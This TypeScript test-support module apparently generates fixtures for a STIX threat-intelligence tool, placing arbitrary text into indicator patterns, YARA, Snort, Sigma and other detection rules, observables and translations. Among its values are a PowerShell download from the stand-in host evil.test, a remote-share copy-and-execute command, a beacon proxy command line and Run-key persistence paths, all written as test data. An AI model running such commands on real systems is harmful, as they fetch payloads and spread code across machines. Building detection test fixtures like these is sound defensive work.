// Places for text that no model tells of: constants of patterns, rules of other languages,
// translations, command lines and paths, and what several objects of one submission say together.
import type { StixObject } from '../../src/core/stix/object.ts'
import { id, minimal } from '../core/stix/model/minimal.ts'
import type { TextPlace } from './text-places.ts'

const quote = (text: string): string => `'${text.replace(/[\\']/g, '\\$&')}'`
const asForm = (text: string): string => text.replace(/[\\^$.*+?()[\]{}|/]/g, '\\$&')
const attacker = "[domain-name:value = 'evil.test']"

/** Patterns of STIX with a constant in them. */
const stixPatterns: Record<string, (text: string) => string> = {
  domain: (text) => `[domain-name:value = ${quote(text)}]`,
  'domain IN': (text) => `[domain-name:value IN ('evil.test', ${quote(text)}, 'bad.test')]`,
  'domain LIKE': (text) => `[domain-name:value LIKE ${quote(`%.${text}`)}]`,
  'domain MATCHES': (text) => `[domain-name:value MATCHES ${quote(`^[a-z]+\\.${asForm(text)}$`)}]`,
  'domain not equal': (text) => `[domain-name:value != ${quote(text)}]`,
  'domain NOT IN': (text) => `[domain-name:value NOT IN (${quote(text)})]`,
  'address ISSUBSET': (text) => `[ipv4-addr:value ISSUBSET ${quote(text)}]`,
  address: (text) => `[ipv4-addr:value = ${quote(text)} OR ipv4-addr:value = '185.1.2.3']`,
  url: (text) => `[url:value = ${quote(`https://evil.test/login?next=${text}`)}]`,
  'url host': (text) => `[url:value = ${quote(`https://${text}/a`)}]`,
  'url LIKE': (text) => `[url:value LIKE ${quote(`https://evil.test/%${text}%`)}]`,
  'url MATCHES': (text) => `[url:value MATCHES ${quote(`evil\\.test/.*${asForm(text)}`)}]`,
  subject: (text) => `[email-message:subject = ${quote(text)}] AND ${attacker}`,
  'subject LIKE': (text) => `[email-message:subject LIKE ${quote(`%${text}%`)}]`,
  recipient: (text) => `[email-message:to_refs[*].value = ${quote(text)}] OR ${attacker}`,
  sender: (text) => `[email-message:from_ref.value = ${quote(text)}]`,
  header: (text) =>
    `[email-message:additional_header_fields.'Received' = ${quote(text)}] FOLLOWEDBY ${attacker}`,
  'file name': (text) => `[file:name = ${quote(text)} AND file:size > 3]`,
  'file path': (text) =>
    `[file:name = 'x' AND file:parent_directory_ref.path = ${quote(`C:\\Users\\${text}\\x`)}]`,
  'command line': (text) =>
    `[process:command_line = ${quote(`powershell -c iwr http://evil.test/${text} -o C:\\x.ps1`)}]`,
  'command line LIKE': (text) => `[process:command_line LIKE ${quote(`%net use \\\\${text}%`)}]`,
  'registry key': (text) => `[windows-registry-key:key = ${quote(`HKLM\\SOFTWARE\\${text}\\Run`)}]`,
  'registry value': (text) => `[windows-registry-key:values[*].data = ${quote(text)}]`,
  mutex: (text) => `[mutex:name = ${quote(text)}]`,
  account: (text) => `[user-account:account_login = ${quote(text)}]`,
  certificate: (text) => `[x509-certificate:subject = ${quote(`CN=${text}, O=x`)}]`,
  'user agent': (text) =>
    `[network-traffic:extensions.'http-request-ext'.request_header.'User-Agent' = ${quote(text)}]`,
  'host header': (text) =>
    `[network-traffic:extensions.'http-request-ext'.request_header.Host = ${quote(text)}] OR ${attacker}`,
  'hash MD5': (text) => `[file:hashes.MD5 = ${quote(text)}]`,
  'hash SHA-256': (text) => `[file:hashes.'SHA-256' = ${quote(text)}]`,
  binary: (text) => `[artifact:payload_bin = b'${text}'] OR ${attacker}`,
  hex: (text) => `[file:magic_number_hex = h'${text}'] OR ${attacker}`,
  'custom property': (text) => `[x-own:x_note = ${quote(text)}] OR ${attacker}`,
  'custom key': (text) => `[file:extensions.'x-own-ext'.${quote(text)} = 'a'] OR ${attacker}`,
  'set of both': (text) => `[domain-name:value = 'evil.test' AND url:value LIKE ${quote(text)}]`,
  'in three parts': (text) =>
    `(${attacker} FOLLOWEDBY [email-addr:value = ${quote(text)}]) WITHIN 600 SECONDS`,
}

const hexOf = (text: string): string =>
  [...Buffer.from(text)].map((octet) => octet.toString(16).padStart(2, '0')).join(' ')

/** Patterns of other languages, by pattern_type and what of them holds the text. */
const otherPatterns: Record<string, (text: string) => string> = {
  'yara string': (text) =>
    `rule a {\n strings:\n  $a = ${JSON.stringify(text)} ascii wide\n condition: $a\n}`,
  'yara meta': (text) =>
    `rule a {\n meta:\n  author = ${JSON.stringify(text)}\n` +
    ' strings:\n  $a = "x"\n condition: $a\n}',
  'yara hex': (text) => `rule a {\n strings:\n  $a = { ${hexOf(text)} }\n condition: $a\n}`,
  'yara comment': (text) =>
    `// ${text.replaceAll('\n', ' ')}\nrule a {\n strings:\n  $a = "x"\n condition: $a\n}`,
  'snort content': (text) => `alert tcp any any -> any 443 (msg:"a"; content:"${text}"; sid:1;)`,
  'snort message': (text) => `alert tcp any any -> 185.1.2.3 443 (msg:"${text}"; sid:1; rev:1;)`,
  'snort octets': (text) =>
    `alert tcp any any -> any any (msg:"a"; content:"|${hexOf(text)}|"; sid:1;)`,
  'suricata query': (text) =>
    `alert dns any any -> any any (msg:"a"; dns.query; content:"${text}"; nocase; sid:2;)`,
  'sigma value': (text) =>
    'title: a\nlogsource:\n  category: dns_query\ndetection:\n  selection:\n' +
    `    QueryName|endswith: ${JSON.stringify(text)}\n  condition: selection\n`,
  'sigma title': (text) =>
    `title: ${JSON.stringify(text)}\nlogsource:\n  product: windows\n` +
    'detection:\n  selection:\n    Image: x\n  condition: selection\n',
  'pcre form': (text) => `^https?://[a-z]+\\.${asForm(text)}/x$`,
  'spl query': (text) => `index=proxy url="${text}" | stats count by url`,
}

const indicators: TextPlace[] = [
  ...Object.entries(stixPatterns).map(
    ([name, write]): TextPlace => ({
      name: `indicator pattern stix ${name}`,
      plant: (text) => [minimal('indicator', { pattern: write(text) })],
    }),
  ),
  ...Object.entries(otherPatterns).map(
    ([name, write]): TextPlace => ({
      name: `indicator pattern ${name}`,
      plant: (text) => [
        minimal('indicator', { pattern: write(text), pattern_type: name.split(' ')[0] }),
      ],
    }),
  ),
]

/** The text as a part of what such a value usually is. */
const values: Record<string, (text: string) => StixObject> = {
  'process command_line in a command': (text) =>
    minimal('process', { command_line: `cmd.exe /c copy x.exe \\\\${text}\\c$ && start ${text}` }),
  'process command_line in an option': (text) =>
    minimal('process', { command_line: `beacon.exe --proxy=http://${text}:8080 -e` }),
  'directory path in a path': (text) =>
    minimal('directory', { path: `C:\\Users\\${text}\\AppData` }),
  'directory path on a share': (text) => minimal('directory', { path: `\\\\${text}\\share\\x` }),
  'file name in a name': (text) => minimal('file', { name: `report_${text}.xlsx` }),
  'windows-registry-key key in a key': (text) =>
    minimal('windows-registry-key', { key: `HKEY_LOCAL_MACHINE\\SOFTWARE\\${text}\\Run` }),
  'windows-registry-key values[].data in a command': (text) =>
    minimal('windows-registry-key', {
      values: [{ name: 'a', data: `C:\\x.exe /host:${text}`, data_type: 'REG_SZ' }],
    }),
  'url value as host': (text) => minimal('url', { value: `https://${text}/a` }),
  'url value in a path': (text) => minimal('url', { value: `https://evil.test/${text}/a` }),
  'url value in a query': (text) => minimal('url', { value: `https://evil.test/?u=${text}` }),
  'url value as user': (text) => minimal('url', { value: `https://${text}@evil.test/` }),
  'domain-name value under it': (text) => minimal('domain-name', { value: `vpn.${text}` }),
  'email-addr value at it': (text) => minimal('email-addr', { value: `taro@${text}` }),
  'x509-certificate subject': (text) =>
    minimal('x509-certificate', { subject: `C=JP, O=${text}, CN=www.a.test` }),
  'software cpe': (text) => minimal('software', { cpe: `cpe:2.3:a:${text}:x:1.0:*:*:*:*:*:*:*` }),
  'file hashes MD5': (text) => minimal('file', { hashes: { MD5: text } }),
  'file hashes SHA-256': (text) => minimal('file', { hashes: { 'SHA-256': text } }),
  'file size': (text) => minimal('file', { size: Number(text) }),
  'note x_count': (text) => minimal('note', { x_count: Number(text) }),
  'tool selector of a custom property': (text) =>
    minimal('tool', {
      [`x_${text}`]: 'a',
      granular_markings: [{ lang: 'en', selectors: [`x_${text}`] }],
    }),
  'observed-data objects': (text) =>
    minimal('observed-data', {
      object_refs: undefined,
      objects: { 0: { type: 'domain-name', value: text } },
    }),
}

const translated = (
  type: string,
  property: string,
  value: (text: string) => unknown,
): TextPlace => ({
  name: `language-content contents.${property} of ${type}`,
  plant: (text) => [
    minimal('language-content', {
      object_ref: id(type),
      contents: { ja: { [property]: value(text) } },
    }),
  ],
})

const same = (text: string): unknown => text
const translations: TextPlace[] = [
  ...['report', 'malware', 'location', 'identity', 'indicator', 'x-own'].flatMap((type) => [
    translated(type, 'name', same),
    translated(type, 'description', same),
  ]),
  translated('malware', 'aliases', (text) => [text]),
  translated('campaign', 'objective', same),
  translated('note', 'content', same),
  translated('report', 'labels', (text) => [text]),
  translated('report', 'x_own', same),
  translated('report', 'external_references', (text) => [{ source_name: text, url: text }]),
]

const referrer = (type: string, changes: Record<string, unknown>): StixObject =>
  minimal(type, changes)

/** Several objects that tell of each other. */
const submissions: Record<string, (text: string) => StixObject[]> = {
  'a domain and a report of it': (text) => [
    minimal('domain-name', { value: text }),
    referrer('report', { description: `C2 at ${text}`, object_refs: [id('domain-name')] }),
  ],
  'a domain and mail from it': (text) => [
    minimal('domain-name', { value: text }),
    referrer('note', { content: `Mail from it@${text} came`, object_refs: [id('domain-name')] }),
  ],
  'a domain and a pattern': (text) => [
    minimal('domain-name', { value: text }),
    minimal('indicator', { pattern: `[domain-name:value = ${quote(text)}]` }),
  ],
  'mail and its sender': (text) => [
    minimal('email-addr', { value: text }),
    minimal('email-message', { from_ref: id('email-addr'), subject: text }),
  ],
  'mail and its recipient': (text) => [
    minimal('email-addr', { value: text, display_name: text }),
    minimal('email-message', { to_refs: [id('email-addr')], subject: 'a' }),
  ],
  'a file and its folder': (text) => [
    minimal('directory', { path: `C:\\${text}` }),
    minimal('file', { parent_directory_ref: id('directory') }),
  ],
  'traffic to a host': (text) => [
    minimal('domain-name', { value: text }),
    minimal('ipv4-addr', { value: '185.1.2.3' }),
    minimal('network-traffic', { src_ref: id('ipv4-addr'), dst_ref: id('domain-name') }),
  ],
  'a creator and a report': (text) => [
    minimal('identity', { name: text, identity_class: 'organization' }),
    minimal('report', { created_by_ref: id('identity'), description: `Written at ${text}` }),
  ],
  'a sighting and who saw it': (text) => [
    minimal('identity', { name: text, identity_class: 'class' }),
    minimal('sighting', { where_sighted_refs: [id('identity')], description: text }),
  ],
  'a marking and what is marked': (text) => [
    minimal('marking-definition', { definition: { statement: `Copyright ${text}` } }),
    minimal('tool', { object_marking_refs: [id('marking-definition')], description: text }),
  ],
  'malware and a relationship': (text) => [
    minimal('malware', { name: text }),
    minimal('campaign', { aliases: [text] }),
    minimal('relationship', {
      source_ref: id('campaign'),
      target_ref: id('malware'),
      description: `${text} was hit`,
    }),
  ],
}

/** The places written by hand. */
export const writtenPlaces = (): TextPlace[] => [
  ...indicators,
  ...Object.entries(values).map(([name, make]) => ({
    name,
    plant: (text: string) => [make(text)],
  })),
  {
    name: 'email-addr value from it',
    aimed: true,
    plant: (text) => [minimal('email-addr', { value: `${text}@evil.test` })],
  },
  {
    name: 'domain-name value before another',
    aimed: true,
    plant: (text) => [minimal('domain-name', { value: `${text}.evil.test` })],
  },
  ...translations,
  ...Object.entries(submissions).map(([name, plant]) => ({ name: `submission: ${name}`, plant })),
]
